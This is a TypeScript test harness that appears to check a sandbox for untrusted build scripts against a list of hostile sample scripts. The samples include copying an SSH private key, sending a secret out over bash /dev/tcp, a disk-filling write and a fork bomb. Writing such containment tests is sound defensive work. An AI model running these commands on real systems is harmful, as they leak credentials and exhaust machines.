/** A step of a build with scripts of strangers: it reads the sources, writes to one directory, and reaches nothing else. */

import { mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { run } from 'coffer'

interface Step {
  readonly script: string
  /** Shown read-only, at the same path. */
  readonly source: string
  readonly output: string
}

/** How it ended, and what it made; what a step has made that did not end well is not for others. */
async function build({ script, source, output }: Step): Promise<string> {
  const { verdict } = await run(['sh', '-euc', script], {
    root: 'host',
    cwd: source,
    mounts: [{ source }, { source: output, target: '/srv', writable: true }],
    env: { SOURCE_DATE_EPOCH: '0', OUTPUT: '/srv' },
    limits: { memory: '256MiB', pids: 64, wallClockMs: 4000, diskBytes: '8MiB' },
    requires: ['network', 'no-new-privileges'],
  })
  return verdict === 'ok' ? `ok, made ${readdirSync(output).join(' ')}` : verdict
}

const base = mkdtempSync('/var/tmp/build-')
const source = join(base, 'source')
mkdirSync(source)
writeFileSync(join(source, 'hello.txt'), 'hello\n')

// Where home is, for the one that calls there.
const port = process.argv[2] ?? '443'
const scripts = {
  'an honest step': 'tar --create --file="$OUTPUT/hello.tar" hello.txt',
  'one that changes the sources': 'echo injected >>hello.txt',
  'one that takes keys along': 'cat ~/.ssh/id_ed25519 >"$OUTPUT/key"',
  'one that calls home': `bash -c 'echo secret >/dev/tcp/127.0.0.1/${port}'`,
  'one that fills the disk': 'head -c 64000000 /dev/zero >"$OUTPUT/full"',
  'one that bombs with forks': 'bash -c "bomb() { bomb | bomb & }; bomb; sleep 60"',
  'one that stays': 'sleep 1000',
}
for (const [name, script] of Object.entries(scripts)) {
  const output = join(base, name.replaceAll(' ', '-'))
  mkdirSync(output)
  console.log(`${name}: ${await build({ script, source, output })}`)
}
rmSync(base, { recursive: true })
